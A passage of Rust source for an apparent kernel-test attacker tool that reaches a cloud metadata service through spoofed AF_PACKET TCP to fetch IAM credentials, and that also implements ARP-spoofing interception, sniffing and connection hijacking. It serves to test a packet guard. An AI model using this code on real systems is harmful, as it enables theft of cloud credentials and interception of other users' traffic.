//! An attacker the kernel tests run inside Docker containers: it models
//! what a CI job with Docker's default capabilities (CAP_NET_RAW, but not
//! CAP_NET_ADMIN) can do to reach the instance metadata service without
//! ever calling connect() on a TCP socket, the one call the connect hooks
//! see, or to read another job's credentials off the wire. The packet
//! guard must drop what it sends; each mode reports, as one JSON line on
//! stdout, how far it got, and exits 0 whatever happened (a failed attack,
//! a socket the kernel refused included, is the result the tests assert
//! on). Only a broken setup (a bad argument, no such interface) exits
//! non-zero.
//!
//! ```text
//! mp-attack packet-tcp --iface IFACE --spoof IP --dst IP:PORT
//!                      [--timeout-ms N] [--ttl-seconds N]
//!                      [--qdisc-bypass BOOL] [--next-hop-mac MAC]
//!     a user-space TCP client on an AF_PACKET socket, from a spoofed
//!     address of the container's subnet: the IMDSv2 sequence (token,
//!     role, credentials), each request on a connection of its own. The
//!     frames go to the MAC of IFACE's default gateway (asked for by ARP)
//!     or to --next-hop-mac; --qdisc-bypass true sets PACKET_QDISC_BYPASS
//!     first, and sends nothing if that is refused
//! mp-attack hdrincl --src IP --dst IP:PORT [--count N]
//!     N hand-built IPv4+TCP SYNs through a raw IPPROTO_RAW socket
//! mp-attack udp --dst IP:PORT [--count N]
//!     N UDP datagrams carrying a token PUT, sent with sendto()
//! mp-attack tcp-connect --dst IP:PORT [--timeout-ms N]
//!     an ordinary connect() and GET of the instance id (for an address
//!     a CAP_NET_ADMIN container DNATs onto IMDS in its own namespace)
//! mp-attack arp-mitm --iface IFACE --victim IP --seconds N [--mode arp|mac]
//!     a man in the middle on a bridge, for N seconds. arp: forged ARP
//!     (the victim's address, our MAC) to the gateway every 100 ms, and
//!     what then comes to us for the victim relayed to it; mac: frames
//!     from the victim's MAC every millisecond, so that the bridge sends us the
//!     victim's frames (not relayed). Either way the TCP payloads are
//!     searched for credentials and IMDSv2 token answers
//! mp-attack claim --iface IFACE --victim IP --dst IP --path PATH
//!     another job's pending connect taken with packets alone: the host's
//!     neighbour entry for the victim poisoned (as arp-mitm's arp mode,
//!     nothing relayed; a line says when), then, for the port read from
//!     stdin (the victim's slot), a user-space TCP connection from the
//!     victim's address to DST:PORT and one GET of PATH; what came back
//!     is reported (status, body, credentials seen)
//! mp-attack sniff --iface IFACE --seconds N
//!     every frame on IFACE (docker0, lo, a bridge: what a --network host
//!     job sees), for N seconds, searched the same way
//! mp-attack xdp --iface IFACE --dst-mac MAC --src IP --dst IP:PORT --count N
//!     N hand-built Ethernet+IPv4+TCP SYNs through an AF_XDP socket in copy
//!     mode, which transmits past the qdisc
//! ```

#[path = "attack/l2.rs"]
mod l2;
#[path = "attack/xdp.rs"]
mod xdp;

use std::{
    collections::HashMap,
    fmt,
    io::{Read as _, Write as _},
    net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket},
    os::fd::{AsRawFd as _, OwnedFd},
    str::FromStr,
    time::{Duration, Instant},
};

use anyhow::{bail, Context as _};
use nix::sys::{
    socket::{self, sockopt, AddressFamily, LinkAddr, MsgFlags, SockFlag, SockProtocol, SockType},
    time::TimeVal,
};
use serde_json::json;

const USAGE: &str = "usage: mp-attack packet-tcp --iface IFACE --spoof IP --dst IP:PORT [--timeout-ms N] [--ttl-seconds N]
                            [--qdisc-bypass BOOL] [--next-hop-mac MAC]
       mp-attack hdrincl --src IP --dst IP:PORT [--count N]
       mp-attack udp --dst IP:PORT [--count N]
       mp-attack tcp-connect --dst IP:PORT [--timeout-ms N]
       mp-attack arp-mitm --iface IFACE --victim IP --seconds N [--mode arp|mac]
       mp-attack sniff --iface IFACE --seconds N
       mp-attack xdp --iface IFACE --dst-mac MAC --src IP --dst IP:PORT --count N";

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some((mode, rest)) = args.split_first() else {
        usage("no mode given")
    };
    let mut flags = Flags::parse(rest);
    let out = match mode.as_str() {
        "packet-tcp" => {
            let iface: String = flags.required("iface");
            let spoof = flags.required("spoof");
            let dst = flags.required("dst");
            let options = PacketOptions {
                timeout: Duration::from_millis(flags.optional("timeout-ms").unwrap_or(3000)),
                ttl_seconds: flags.optional("ttl-seconds").unwrap_or(21600),
                qdisc_bypass: flags.optional("qdisc-bypass").unwrap_or(false),
                next_hop_mac: flags.optional::<Mac>("next-hop-mac").map(|m| m.0),
            };
            flags.finish();
            packet_tcp(&iface, spoof, dst, &options)
        }
        "hdrincl" => {
            let src = flags.required("src");
            let dst = flags.required("dst");
            let count = flags.optional("count").unwrap_or(1);
            flags.finish();
            hdrincl(src, dst, count)
        }
        "udp" => {
            let dst = flags.required("dst");
            let count = flags.optional("count").unwrap_or(1);
            flags.finish();
            udp(dst, count)
        }
        "tcp-connect" => {
            let dst = flags.required("dst");
            let timeout = Duration::from_millis(flags.optional("timeout-ms").unwrap_or(1500));
            flags.finish();
            Ok(tcp_connect(dst, timeout))
        }
        "arp-mitm" => {
            let iface: String = flags.required("iface");
            let victim = flags.required("victim");
            let seconds = Duration::from_secs(flags.required("seconds"));
            let method = flags.optional("mode").unwrap_or(l2::Method::Arp);
            flags.finish();
            l2::arp_mitm(&iface, victim, seconds, method)
        }
        "claim" => {
            let iface: String = flags.required("iface");
            let victim = flags.required("victim");
            let dst = flags.required("dst");
            let path: String = flags.required("path");
            flags.finish();
            l2::claim(&iface, victim, dst, &path)
        }
        "sniff" => {
            let iface: String = flags.required("iface");
            let seconds = Duration::from_secs(flags.required("seconds"));
            flags.finish();
            l2::sniff(&iface, seconds)
        }
        "xdp" => {
            let iface: String = flags.required("iface");
            let dst_mac = flags.required::<Mac>("dst-mac").0;
            let src = flags.required("src");
            let dst = flags.required("dst");
            let count = flags.required("count");
            flags.finish();
            xdp::xdp(&iface, dst_mac, src, dst, count)
        }
        other => usage(&format!("unknown mode {other:?}")),
    };
    match out {
        Ok(out) => println!("{out}"),
        Err(e) => {
            eprintln!("mp-attack {mode}: {e:#}");
            std::process::exit(1);
        }
    }
}

fn usage(why: &str) -> ! {
    eprintln!("mp-attack: {why}\n{USAGE}");
    std::process::exit(2)
}

/// `--name value` arguments. Every flag must be taken by the mode, so a
/// typo is an error instead of a silently ignored option.
struct Flags(HashMap<String, String>);

impl Flags {
    fn parse(args: &[String]) -> Self {
        let mut flags = HashMap::new();
        let mut args = args.iter();
        while let Some(arg) = args.next() {
            let Some(name) = arg.strip_prefix("--") else {
                usage(&format!("unexpected argument {arg:?}"))
            };
            let Some(value) = args.next() else {
                usage(&format!("--{name} needs a value"))
            };
            if flags.insert(name.to_string(), value.clone()).is_some() {
                usage(&format!("--{name} given twice"));
            }
        }
        Self(flags)
    }

    fn optional<T: FromStr>(&mut self, name: &str) -> Option<T> {
        let value = self.0.remove(name)?;
        Some(
            value
                .parse()
                .unwrap_or_else(|_| usage(&format!("bad value {value:?} for --{name}"))),
        )
    }

    fn required<T: FromStr>(&mut self, name: &str) -> T {
        self.optional(name)
            .unwrap_or_else(|| usage(&format!("--{name} is required")))
    }

    fn finish(self) {
        if let Some(name) = self.0.keys().next() {
            usage(&format!("unknown flag --{name}"));
        }
    }
}

/// An Ethernet address, written `aa:bb:cc:dd:ee:ff`.
#[derive(Clone, Copy)]
struct Mac([u8; 6]);

impl FromStr for Mac {
    type Err = ();

    fn from_str(s: &str) -> Result<Self, ()> {
        let mut mac = [0u8; 6];
        let mut parts = s.split(':');
        for byte in &mut mac {
            let part = parts.next().ok_or(())?;
            if part.is_empty() || part.len() > 2 {
                return Err(());
            }
            *byte = u8::from_str_radix(part, 16).map_err(|_| ())?;
        }
        match parts.next() {
            Some(_) => Err(()),
            None => Ok(Self(mac)),
        }
    }
}

impl fmt::Display for Mac {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [a, b, c, d, e, g] = self.0;
        write!(f, "{a:02x}:{b:02x}:{c:02x}:{d:02x}:{e:02x}:{g:02x}")
    }
}

// ---------------------------------------------------------------------------
// packet-tcp: TCP in user space over AF_PACKET
// ---------------------------------------------------------------------------

const ETHERTYPE_IPV4: u16 = 0x0800;
const ETHERTYPE_ARP: u16 = 0x0806;
const ARP_REQUEST: u16 = 1;
const ARP_REPLY: u16 = 2;
/// The shortest Ethernet frame (without FCS); a NIC pads shorter ones,
/// but a driver that does not would have them dropped as runts.
const MIN_FRAME: usize = 60;

const FIN: u8 = 0x01;
const SYN: u8 = 0x02;
const RST: u8 = 0x04;
const PSH: u8 = 0x08;
const ACK: u8 = 0x10;

/// How often the gateway's MAC is asked for, and how far apart.
const ARP_TRIES: u32 = 5;
const ARP_INTERVAL: Duration = Duration::from_millis(300);
/// SYN retransmits after the first SYN, and how far apart.
const SYN_RETRANSMITS: u32 = 3;
const SYN_RTO: Duration = Duration::from_millis(700);
/// How long an unacknowledged request waits before it is sent again.
const DATA_RTO: Duration = Duration::from_millis(700);
/// We advertise a window without scaling; a metadata answer is far
/// smaller, so the server never has to wait for it to open.
const WINDOW: u16 = 65535;

/// `packet-tcp`'s options beyond the addresses.
struct PacketOptions {
    timeout: Duration,
    ttl_seconds: u32,
    /// Set PACKET_QDISC_BYPASS before sending anything.
    qdisc_bypass: bool,
    /// Where the frames go; None asks the default gateway's MAC by ARP.
    next_hop_mac: Option<[u8; 6]>,
}

/// What `packet-tcp` found out; it becomes the JSON report.
#[derive(Default)]
struct PacketReport {
    /// The kernel refused the AF_PACKET socket (nothing was sent).
    socket_error: Option<String>,
    /// The kernel refused PACKET_QDISC_BYPASS (nothing was sent).
    bypass_error: Option<String>,
    frames_sent_to_dst: u64,
    connected: bool,
    put_status: Option<u16>,
    token: bool,
    role: Option<String>,
    credentials: bool,
    reply_ttl: Option<u8>,
    error: Option<String>,
}

impl PacketReport {
    fn json(&self) -> serde_json::Value {
        json!({
            "mode": "packet-tcp",
            "socket_error": self.socket_error,
            "bypass_error": self.bypass_error,
            "frames_sent_to_dst": self.frames_sent_to_dst,
            "connected": self.connected,
            "put_status": self.put_status,
            "token": self.token,
            "role": self.role,
            "credentials": self.credentials,
            "reply_ttl": self.reply_ttl,
            "error": self.error,
        })
    }
}

fn packet_tcp(
    iface: &str,
    spoof: Ipv4Addr,
    dst: SocketAddrV4,
    options: &PacketOptions,
) -> anyhow::Result<serde_json::Value> {
    let deadline = Instant::now() + options.timeout;
    let mut report = PacketReport::default();
    let mut link = match Link::open(iface, spoof, *dst.ip(), deadline)? {
        Ok(link) => link,
        Err(e) => {
            report.socket_error = Some(e);
            return Ok(report.json());
        }
    };
    if options.qdisc_bypass {
        if let Err(e) = link.bypass_qdisc() {
            report.bypass_error = Some(e.to_string());
            return Ok(report.json());
        }
    }
    let next_hop = match options.next_hop_mac {
        Some(mac) => Ok(mac),
        None => {
            let gateway = default_gateway(iface)?;
            match link.resolve(gateway) {
                Ok(Some(mac)) => Ok(mac),
                Ok(None) => Err(format!("gateway {gateway} did not answer ARP")),
                Err(e) => Err(format!("resolving gateway {gateway}: {e}")),
            }
        }
    };
    match next_hop {
        Ok(mac) => imds_v2(&mut link, mac, dst, options.ttl_seconds, &mut report),
        Err(e) => report.error = Some(e),
    }
    if let Some(e) = link.send_error {
        let note = format!("a send() failed: {e}");
        report.error = Some(match report.error {
            Some(error) => format!("{error}; {note}"),
            None => note,
        });
    }
    report.frames_sent_to_dst = link.frames_to_dst;
    report.reply_ttl = link.reply_ttl;
    Ok(report.json())
}

/// The attacker's IMDSv2 sequence: a token, the role's name, its
/// credentials; each step only if the one before it answered.
fn imds_v2(
    link: &mut Link,
    next_hop: [u8; 6],
    dst: SocketAddrV4,
    ttl_seconds: u32,
    report: &mut PacketReport,
) {
    let mut step = |method: &str, path: &str, header: String| {
        let request = format!(
            "{method} {path} HTTP/1.1\r\nHost: {}\r\n{header}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            dst.ip()
        );
        let exchange = tcp_exchange(link, next_hop, dst, request.as_bytes());
        report.connected |= exchange.connected;
        let response = parse_response(&exchange.response);
        if let Some(error) = exchange.error {
            // A partial answer still counts (its status line may be
            // there), but the first failure is the one worth reporting.
            report
                .error
                .get_or_insert(format!("{method} {path}: {error}"));
        }
        response
    };

    let put = step(
        "PUT",
        "/latest/api/token",
        format!("X-aws-ec2-metadata-token-ttl-seconds: {ttl_seconds}"),
    );
    report.put_status = put.as_ref().map(|r| r.status);
    let Some(token) = put
        .filter(|r| r.status == 200)
        .map(|r| r.body.trim().to_string())
        .filter(|t| !t.is_empty() && !t.contains(['\r', '\n']))
    else {
        return;
    };
    report.token = true;

    let header = format!("X-aws-ec2-metadata-token: {token}");
    let roles = step(
        "GET",
        "/latest/meta-data/iam/security-credentials/",
        header.clone(),
    );
    let Some(role) = roles
        .filter(|r| r.status == 200)
        .and_then(|r| r.body.lines().next().map(|l| l.trim().to_string()))
        .filter(|r| !r.is_empty())
    else {
        return;
    };
    report.role = Some(role.clone());

    let path = format!("/latest/meta-data/iam/security-credentials/{role}");
    let credentials = step("GET", &path, header);
    report.credentials = credentials.is_some_and(|r| r.body.contains("AccessKeyId"));
}

/// The IPv4 gateway of `iface`'s default route, from /proc/net/route
/// (which shows the reader's network namespace).
fn default_gateway(iface: &str) -> anyhow::Result<Ipv4Addr> {
    let routes = std::fs::read_to_string("/proc/net/route").context("reading /proc/net/route")?;
    const RTF_GATEWAY: u32 = 0x2;
    for line in routes.lines().skip(1) {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let [name, destination, gateway, flags, _, _, _, mask, ..] = fields[..] else {
            continue;
        };
        let hex = |s: &str| u32::from_str_radix(s, 16).ok();
        if name == iface
            && hex(destination) == Some(0)
            && hex(mask) == Some(0)
            && hex(flags).is_some_and(|f| f & RTF_GATEWAY != 0)
        {
            // The kernel prints the network-order address as a native
            // integer, so its native bytes are the address's bytes.
            if let Some(gateway) = hex(gateway) {
                return Ok(Ipv4Addr::from(gateway.to_ne_bytes()));
            }
        }
    }
    bail!("no default route through {iface} in /proc/net/route")
}

/// The MAC address of `iface` (getifaddrs lists the link-level address of
/// each interface in the caller's network namespace).
fn interface_mac(iface: &str) -> anyhow::Result<[u8; 6]> {
    nix::ifaddrs::getifaddrs()
        .context("getifaddrs")?
        .filter(|ifa| ifa.interface_name == iface)
        .find_map(|ifa| ifa.address?.as_link_addr()?.addr())
        .with_context(|| format!("no MAC address for interface {iface}"))
}

/// One inbound frame that matters to us.
enum Event {
    ArpReply {
        ip: Ipv4Addr,
        mac: [u8; 6],
    },
    Tcp {
        src: SocketAddrV4,
        dst: SocketAddrV4,
        segment: Segment,
    },
}

struct Segment {
    seq: u32,
    ack: u32,
    flags: u8,
    payload: Vec<u8>,
}

/// An AF_PACKET socket on one interface, speaking for the spoofed address:
/// it answers ARP for it whenever it reads, so the gateway can deliver the
/// replies, and it counts what goes to and comes from the target.
struct Link {
    fd: OwnedFd,
    ifindex: usize,
    mac: [u8; 6],
    spoof: Ipv4Addr,
    /// The target's address, for the two counters below.
    target: Ipv4Addr,
    /// IPv4 frames sent to `target`, retransmits included.
    frames_to_dst: u64,
    /// The IP TTL of the first packet `target` sent us.
    reply_ttl: Option<u8>,
    /// The first send() that failed. A frame that could not be sent is
    /// treated as one lost on the way (TCP sends it again), not as the
    /// end of the run; the report mentions it.
    send_error: Option<nix::Error>,
    /// No read waits past it: the whole run ends by then.
    deadline: Instant,
}

/// An AF_PACKET socket for every protocol, bound to interface `ifindex`.
/// The error is the kernel's refusal, which an attack reports: the
/// errno alone for socket(), "bind: " and the errno for bind().
fn packet_socket(ifindex: u32) -> Result<OwnedFd, String> {
    let fd = socket::socket(
        AddressFamily::Packet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::EthAll,
    )
    .map_err(|e| e.to_string())?;
    // SAFETY: sockaddr_ll is plain old data, for which all zeroes is a
    // valid value.
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_protocol = (libc::ETH_P_ALL as u16).to_be();
    addr.sll_ifindex = ifindex as i32;
    // SAFETY: `addr` is a valid sockaddr_ll that outlives the call, and
    // the length passed is its size.
    let bound = unsafe {
        libc::bind(
            fd.as_raw_fd(),
            (&raw const addr).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    };
    if bound != 0 {
        return Err(format!("bind: {}", nix::Error::last()));
    }
    Ok(fd)
}

/// The next frame read from the packet socket `fd` into `buf`: its length
/// and where it came from, or None once `until` has passed.
fn recv_frame(
    fd: &OwnedFd,
    buf: &mut [u8],
    until: Instant,
) -> nix::Result<Option<(usize, LinkAddr)>> {
    loop {
        let now = Instant::now();
        if now >= until {
            return Ok(None);
        }
        // SO_RCVTIMEO of zero would mean "forever": wait at least 1 ms.
        let wait = (until - now).max(Duration::from_millis(1));
        socket::setsockopt(
            fd,
            sockopt::ReceiveTimeout,
            &TimeVal::new(wait.as_secs() as _, wait.subsec_micros() as _),
        )?;
        match socket::recvfrom::<LinkAddr>(fd.as_raw_fd(), buf) {
            Ok((n, Some(from))) => return Ok(Some((n, from))),
            Ok((_, None)) | Err(nix::Error::EAGAIN | nix::Error::EINTR) => continue,
            Err(e) => return Err(e),
        }
    }
}

impl Link {
    /// The outer error is a broken setup (no such interface); the inner
    /// one is the kernel refusing the socket, as [`packet_socket`] words it.
    fn open(
        iface: &str,
        spoof: Ipv4Addr,
        target: Ipv4Addr,
        deadline: Instant,
    ) -> anyhow::Result<Result<Self, String>> {
        let ifindex = nix::net::if_::if_nametoindex(iface)
            .with_context(|| format!("no interface {iface}"))?;
        let mac = interface_mac(iface)?;
        Ok(packet_socket(ifindex).map(|fd| Self {
            fd,
            ifindex: ifindex as usize,
            mac,
            spoof,
            target,
            frames_to_dst: 0,
            reply_ttl: None,
            send_error: None,
            deadline,
        }))
    }

    /// Sends this socket's frames straight to the driver, past the qdisc
    /// and tc egress (PACKET_QDISC_BYPASS).
    fn bypass_qdisc(&self) -> nix::Result<()> {
        let on: libc::c_int = 1;
        // SAFETY: `on` is a c_int that outlives the call, and the length
        // passed is its size.
        let set = unsafe {
            libc::setsockopt(
                self.fd.as_raw_fd(),
                libc::SOL_PACKET,
                libc::PACKET_QDISC_BYPASS,
                (&raw const on).cast(),
                std::mem::size_of::<libc::c_int>() as libc::socklen_t,
            )
        };
        if set == 0 {
            Ok(())
        } else {
            Err(nix::Error::last())
        }
    }

    /// Sends one frame; whether it went is in `send_error`.
    fn send_frame(&mut self, dst_mac: [u8; 6], ethertype: u16, body: &[u8]) -> bool {
        self.send_frame_from(self.mac, dst_mac, ethertype, body)
    }

    /// Sends one frame with the Ethernet source `src_mac`, ours or not.
    fn send_frame_from(
        &mut self,
        src_mac: [u8; 6],
        dst_mac: [u8; 6],
        ethertype: u16,
        body: &[u8],
    ) -> bool {
        let mut frame = Vec::with_capacity(MIN_FRAME.max(14 + body.len()));
        frame.extend_from_slice(&dst_mac);
        frame.extend_from_slice(&src_mac);
        frame.extend_from_slice(&ethertype.to_be_bytes());
        frame.extend_from_slice(body);
        frame.resize(frame.len().max(MIN_FRAME), 0);
        match socket::send(self.fd.as_raw_fd(), &frame, MsgFlags::empty()) {
            Ok(_) => true,
            Err(e) => {
                self.send_error.get_or_insert(e);
                false
            }
        }
    }

    fn send_ipv4(&mut self, dst_mac: [u8; 6], packet: &[u8]) {
        if self.send_frame(dst_mac, ETHERTYPE_IPV4, packet)
            && packet[16..20] == self.target.octets()
        {
            self.frames_to_dst += 1;
        }
    }

    fn send_arp(&mut self, op: u16, dst_mac: [u8; 6], target_mac: [u8; 6], target_ip: Ipv4Addr) {
        let arp = arp_packet(op, (self.mac, self.spoof), (target_mac, target_ip));
        // A lost request is sent again, and a lost reply asked for again.
        self.send_frame(dst_mac, ETHERTYPE_ARP, &arp);
    }

    /// The MAC of `ip`, asked for from the spoofed address.
    fn resolve(&mut self, ip: Ipv4Addr) -> nix::Result<Option<[u8; 6]>> {
        for _ in 0..ARP_TRIES {
            self.send_arp(ARP_REQUEST, [0xff; 6], [0; 6], ip);
            let until = Instant::now() + ARP_INTERVAL;
            while let Some(event) = self.recv(until)? {
                if let Event::ArpReply { ip: from, mac } = event {
                    if from == ip {
                        return Ok(Some(mac));
                    }
                }
            }
            if Instant::now() >= self.deadline {
                break;
            }
        }
        Ok(None)
    }

    /// The next frame for the spoofed address, or None once `until` (or
    /// the deadline) has passed. ARP requests for the spoofed address are
    /// answered here, on the way.
    fn recv(&mut self, until: Instant) -> nix::Result<Option<Event>> {
        let until = until.min(self.deadline);
        let mut buf = vec![0u8; 65536];
        while let Some((n, from)) = recv_frame(&self.fd, &mut buf, until)? {
            // An ETH_P_ALL socket also sees the frames this host sends,
            // our own included; frames from other interfaces can be queued
            // before bind() took effect.
            if from.pkttype() == libc::PACKET_OUTGOING || from.ifindex() != self.ifindex {
                continue;
            }
            if let Some(event) = self.handle(&buf[..n]) {
                return Ok(Some(event));
            }
        }
        Ok(None)
    }

    /// Answers ARP for the spoofed address, records the target's TTL, and
    /// returns what a caller waits for.
    fn handle(&mut self, frame: &[u8]) -> Option<Event> {
        let ethertype = u16::from_be_bytes(frame.get(12..14)?.try_into().ok()?);
        let body = &frame[14..];
        match ethertype {
            ETHERTYPE_ARP => {
                let arp = body.get(..28)?;
                if arp[..6] != [0, 1, 0x08, 0x00, 6, 4] {
                    return None;
                }
                let op = u16::from_be_bytes([arp[6], arp[7]]);
                let sender_mac: [u8; 6] = arp[8..14].try_into().ok()?;
                let sender_ip = Ipv4Addr::new(arp[14], arp[15], arp[16], arp[17]);
                let target_ip = Ipv4Addr::new(arp[24], arp[25], arp[26], arp[27]);
                match op {
                    ARP_REQUEST if target_ip == self.spoof => {
                        self.send_arp(ARP_REPLY, sender_mac, sender_mac, sender_ip);
                        None
                    }
                    ARP_REPLY => Some(Event::ArpReply {
                        ip: sender_ip,
                        mac: sender_mac,
                    }),
                    _ => None,
                }
            }
            ETHERTYPE_IPV4 => {
                let Ipv4 {
                    src,
                    dst,
                    ttl,
                    protocol,
                    payload,
                } = parse_ipv4(body)?;
                if dst != self.spoof {
                    return None;
                }
                if src == self.target {
                    self.reply_ttl.get_or_insert(ttl);
                }
                if protocol != libc::IPPROTO_TCP as u8 || payload.len() < 20 {
                    return None;
                }
                let be16 = |i: usize| u16::from_be_bytes([payload[i], payload[i + 1]]);
                let be32 = |i: usize| u32::from_be_bytes(payload[i..i + 4].try_into().unwrap());
                let data_offset = usize::from(payload[12] >> 4) * 4;
                Some(Event::Tcp {
                    src: SocketAddrV4::new(src, be16(0)),
                    dst: SocketAddrV4::new(dst, be16(2)),
                    segment: Segment {
                        seq: be32(4),
                        ack: be32(8),
                        flags: payload[13],
                        payload: payload.get(data_offset..)?.to_vec(),
                    },
                })
            }
            _ => None,
        }
    }

    /// The next segment of the connection `local` <-> `remote`.
    fn recv_segment(
        &mut self,
        local: SocketAddrV4,
        remote: SocketAddrV4,
        until: Instant,
    ) -> nix::Result<Option<Segment>> {
        while let Some(event) = self.recv(until)? {
            match event {
                Event::Tcp { src, dst, segment } if src == remote && dst == local => {
                    return Ok(Some(segment))
                }
                _ => {}
            }
        }
        Ok(None)
    }
}

/// An ARP packet (Ethernet, IPv4) from `sender` to `target`, each a MAC
/// and an address.
fn arp_packet(op: u16, sender: ([u8; 6], Ipv4Addr), target: ([u8; 6], Ipv4Addr)) -> Vec<u8> {
    let mut arp = Vec::with_capacity(28);
    arp.extend_from_slice(&[0, 1, 0x08, 0x00, 6, 4]); // Ethernet, IPv4
    arp.extend_from_slice(&op.to_be_bytes());
    arp.extend_from_slice(&sender.0);
    arp.extend_from_slice(&sender.1.octets());
    arp.extend_from_slice(&target.0);
    arp.extend_from_slice(&target.1.octets());
    arp
}

/// The fields of an IPv4 packet we look at.
struct Ipv4<'a> {
    src: Ipv4Addr,
    dst: Ipv4Addr,
    ttl: u8,
    protocol: u8,
    payload: &'a [u8],
}

/// An unfragmented IPv4 packet (fragments are not reassembled: IMDS
/// answers are small and sent with DF).
fn parse_ipv4(packet: &[u8]) -> Option<Ipv4<'_>> {
    let header = packet.get(..20)?;
    let ihl = usize::from(header[0] & 0x0f) * 4;
    // Total length, not the frame's: short frames carry Ethernet padding.
    let total = usize::from(u16::from_be_bytes([header[2], header[3]]));
    let fragment = u16::from_be_bytes([header[6], header[7]]) & 0x3fff; // MF + offset
    if header[0] >> 4 != 4 || ihl < 20 || total < ihl || fragment != 0 {
        return None;
    }
    Some(Ipv4 {
        src: Ipv4Addr::new(header[12], header[13], header[14], header[15]),
        dst: Ipv4Addr::new(header[16], header[17], header[18], header[19]),
        ttl: header[8],
        protocol: header[9],
        payload: packet.get(ihl..total)?,
    })
}

/// What came of one request on a TCP connection of our own.
struct Exchange {
    /// A SYN-ACK came back.
    connected: bool,
    /// The bytes the server sent, in order, however far it got.
    response: Vec<u8>,
    /// Why the exchange ended before the response did.
    error: Option<String>,
}

/// Opens a connection from the spoofed address to `remote`, sends
/// `request` in one segment, and reads the response until the server's FIN,
/// a complete response, or the deadline.
fn tcp_exchange(
    link: &mut Link,
    next_hop: [u8; 6],
    remote: SocketAddrV4,
    request: &[u8],
) -> Exchange {
    let mut tcp = Tcp {
        local: SocketAddrV4::new(link.spoof, fastrand::u16(32768..61000)),
        remote,
        next_hop,
        snd_nxt: fastrand::u32(..),
        rcv_nxt: 0,
    };
    let mut exchange = Exchange {
        connected: false,
        response: Vec::new(),
        error: None,
    };
    if let Err(e) = tcp.run(link, request, &mut exchange) {
        exchange.error = Some(e);
    }
    exchange
}

/// One connection's sequence numbers and addresses.
struct Tcp {
    local: SocketAddrV4,
    remote: SocketAddrV4,
    next_hop: [u8; 6],
    /// The next sequence number we send.
    snd_nxt: u32,
    /// The next sequence number we expect (what we acknowledge).
    rcv_nxt: u32,
}

impl Tcp {
    fn send(&self, link: &mut Link, flags: u8, options: &[u8], payload: &[u8]) {
        let packet = ipv4_tcp(&TcpPacket {
            src: self.local,
            dst: self.remote,
            seq: self.snd_nxt,
            ack: if flags & ACK != 0 { self.rcv_nxt } else { 0 },
            flags,
            options,
            payload,
        });
        link.send_ipv4(self.next_hop, &packet);
    }

    fn run(
        &mut self,
        link: &mut Link,
        request: &[u8],
        exchange: &mut Exchange,
    ) -> Result<(), String> {
        let isn = self.snd_nxt;
        let recv_err = |e: nix::Error| format!("reading the packet socket: {e}");

        // Handshake: SYN with an MSS option (1460), as any client sends.
        let (mut syn_ack, mut syns) = (None, 0);
        'handshake: while syns <= SYN_RETRANSMITS && Instant::now() < link.deadline {
            self.send(link, SYN, &[2, 4, 0x05, 0xb4], &[]);
            syns += 1;
            let until = Instant::now() + SYN_RTO;
            while let Some(seg) = link
                .recv_segment(self.local, self.remote, until)
                .map_err(recv_err)?
            {
                if seg.ack != isn.wrapping_add(1) {
                    continue;
                }
                if seg.flags & RST != 0 {
                    return Err("connection refused (RST)".into());
                }
                if seg.flags & (SYN | ACK) == SYN | ACK {
                    syn_ack = Some(seg);
                    break 'handshake;
                }
            }
        }
        let Some(syn_ack) = syn_ack else {
            return Err(format!("no SYN-ACK after {syns} SYN(s)"));
        };
        exchange.connected = true;
        self.snd_nxt = isn.wrapping_add(1);
        self.rcv_nxt = syn_ack.seq.wrapping_add(1);
        self.send(link, ACK, &[], &[]);

        // The request, sent again until the server acknowledges it.
        let request_seq = self.snd_nxt;
        let request_end = request_seq.wrapping_add(request.len() as u32);
        let mut acked = false;
        let mut sent_at = Instant::now();
        self.send(link, PSH | ACK, &[], request);
        self.snd_nxt = request_end;
        loop {
            if response_complete(&exchange.response) {
                // Done before the server's FIN: reset rather than wait
                // through a close.
                self.send(link, RST | ACK, &[], &[]);
                return Ok(());
            }
            let until = if acked {
                link.deadline
            } else {
                sent_at + DATA_RTO
            };
            let Some(seg) = link
                .recv_segment(self.local, self.remote, until)
                .map_err(recv_err)?
            else {
                if Instant::now() >= link.deadline {
                    self.send(link, RST | ACK, &[], &[]);
                    return Err(format!(
                        "timed out with {} bytes of response",
                        exchange.response.len()
                    ));
                }
                self.snd_nxt = request_seq;
                self.send(link, PSH | ACK, &[], request);
                self.snd_nxt = request_end;
                sent_at = Instant::now();
                continue;
            };
            if seg.flags & RST != 0 {
                return Err(format!(
                    "reset by the server after {} bytes of response",
                    exchange.response.len()
                ));
            }
            if seg.flags & ACK != 0 && seq_ge(seg.ack, request_end) {
                acked = true;
            }
            // Take what is new in the segment; a retransmit of what we
            // have, or a segment past a gap (it will come again), is only
            // acknowledged.
            let offset = self.rcv_nxt.wrapping_sub(seg.seq) as usize;
            let mut fin = false;
            if seq_ge(self.rcv_nxt, seg.seq) && offset <= seg.payload.len() {
                exchange.response.extend_from_slice(&seg.payload[offset..]);
                self.rcv_nxt = seg.seq.wrapping_add(seg.payload.len() as u32);
                if seg.flags & FIN != 0 {
                    self.rcv_nxt = self.rcv_nxt.wrapping_add(1);
                    fin = true;
                }
            }
            if fin {
                // Acknowledge the FIN and close our side at once.
                self.send(link, FIN | ACK, &[], &[]);
                return Ok(());
            }
            if !seg.payload.is_empty() || seg.flags & (SYN | FIN) != 0 {
                self.send(link, ACK, &[], &[]);
            }
        }
    }
}

/// `a` is at or after `b` in sequence space.
fn seq_ge(a: u32, b: u32) -> bool {
    a.wrapping_sub(b) as i32 >= 0
}

/// A TCP segment to build, with its IPv4 header.
struct TcpPacket<'a> {
    src: SocketAddrV4,
    dst: SocketAddrV4,
    seq: u32,
    ack: u32,
    flags: u8,
    /// TCP options, a multiple of 4 bytes long.
    options: &'a [u8],
    payload: &'a [u8],
}

/// An IPv4 packet (DF, TTL 64) carrying one TCP segment, checksums filled.
fn ipv4_tcp(p: &TcpPacket) -> Vec<u8> {
    let tcp_len = 20 + p.options.len() + p.payload.len();
    let mut tcp = Vec::with_capacity(tcp_len);
